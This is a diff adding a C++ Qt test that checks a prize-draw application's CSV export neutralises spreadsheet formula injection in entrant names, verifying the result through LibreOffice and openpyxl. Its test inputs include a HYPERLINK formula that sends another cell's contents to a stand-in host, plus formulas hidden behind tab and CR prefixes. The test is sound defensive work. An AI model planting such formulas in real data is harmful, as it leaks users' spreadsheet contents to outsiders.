@@ -126,6 +126,7 @@ private Q_SLOTS:
     void badFiles();
     void importPreview();
     void exportRoundTrip();
+    void csvExportRunsNoFormula();
     void exportFailureKeepsFile();
 };
 
@@ -408,6 +409,71 @@ void TestSpreadsheet::exportRoundTrip() {
                   {env.path("results.xlsx")});
     QVERIFY(seen);
     QCOMPARE(seen->trimmed(), QStringLiteral("A2 00123 s True True 5 补抽"));
+}
+
+void TestSpreadsheet::csvExportRunsNoFormula() {
+    // Entrant names from outside that a spreadsheet would run: a link that sends the next cell away, a
+    // sum, a tab before a formula (the split of the line trims it), a CR before one.
+    TestEnv env;
+    WinnerLists lists;
+    lists.setPrizeNames({QStringLiteral("一等奖")});
+    lists.appendAll(WinnerLists::headerLine(3, QStringLiteral("一等奖"), QDateTime(QDate(2025, 1, 18), {})));
+    const QStringList names{QStringLiteral("=HYPERLINK(\"http://x.example/?\"&D3,\"点我\")"),
+                            QStringLiteral("\t=2+2\t-5\t+1+1"), QStringLiteral("@SUM(1,2)  \r=3*3  a=b")};
+    for (const QString& name : names)
+        lists.appendAll(WinnerLists::winnerLine(QStringLiteral("一等奖"), name));
+    QList<QStringList> table = ResultsExport::table(ResultsExport::rows(lists, {}));
+    QCOMPARE(table.at(2).mid(3, 3), (QStringList{"=2+2", "-5", "+1+1"}));
+    // A tab or a CR at the start of a cell (the split trims them off names).
+    table.append({QString(), QString(), QString(), QStringLiteral("\t=4+4"), QStringLiteral("\r=5+5")});
+    ResultsExport::writeCsv(env.path("results.csv"), table);
+    const QStringList expected{QStringLiteral("'=HYPERLINK(\"http://x.example/?\"&D3,\"点我\")"),
+                               QStringLiteral("'=2+2"),
+                               QStringLiteral("'-5"),
+                               QStringLiteral("'+1+1"),
+                               QStringLiteral("'@SUM(1,2)"),
+                               QStringLiteral("'=3*3"),
+                               QStringLiteral("a=b"),
+                               QStringLiteral("'\t=4+4"),
+                               QStringLiteral("'\r=5+5")};
+    const SheetTable back = SheetImport::readFile(env.path("results.csv"));
+    QStringList cells;
+    for (int row = 1; row < back.rowCount(); ++row)
+        for (int column = 3; column < 6; ++column)
+            if (!back.cellView(row, column).isEmpty())
+                cells << back.cell(row, column);
+    QCOMPARE(cells, expected);
+
+    // A spreadsheet application opens it (LibreOffice, formulas evaluated as its CSV import does by
+    // default) and keeps every cell a text (a line break its own way); openpyxl reads what it made.
+    const QString soffice = QStandardPaths::findExecutable(QStringLiteral("soffice"));
+    if (soffice.isEmpty() || !haveOpenpyxl())
+        QSKIP("LibreOffice (libreoffice-calc-nogui) and python3-openpyxl are needed to open the CSV");
+    QProcess convert;
+    convert.start(soffice, {QStringLiteral("-env:UserInstallation=file://") + env.path("profile"),
+                            QStringLiteral("--headless"), QStringLiteral("--norestore"),
+                            QStringLiteral("--infilter=CSV:44,34,76,1"), QStringLiteral("--convert-to"),
+                            QStringLiteral("xlsx"), QStringLiteral("--outdir"), env.dir.path(),
+                            env.path("results.csv")});
+    QVERIFY(convert.waitForFinished(180000));
+    QVERIFY2(QFile::exists(env.path("results.xlsx")), convert.readAllStandardError().constData());
+    const std::optional<QString> seen =
+        runPython(QStringLiteral("import sys, openpyxl\n"
+                                 "ws = openpyxl.load_workbook(sys.argv[1]).active\n"
+                                 "for row in ws.iter_rows(min_row=2, min_col=4, max_col=6):\n"
+                                 "    for c in row:\n"
+                                 "        if c.value is not None:\n"
+                                 "            print(c.data_type + str(c.value).replace('\\t', '<TAB>')\n"
+                                 "                  .replace('\\r', '<BR>').replace('\\n', '<BR>'))\n"),
+                  {env.path("results.xlsx")});
+    QVERIFY(seen);
+    QStringList shown;
+    for (const QString& cell : expected)
+        shown << u's' + QString(cell)
+                            .replace(u'\t', QLatin1String("<TAB>"))
+                            .replace(u'\r', QLatin1String("<BR>"))
+                            .replace(u'\n', QLatin1String("<BR>"));
+    QCOMPARE(seen->trimmed().split(u'\n'), shown);
 }
 
 void TestSpreadsheet::exportFailureKeepsFile() {
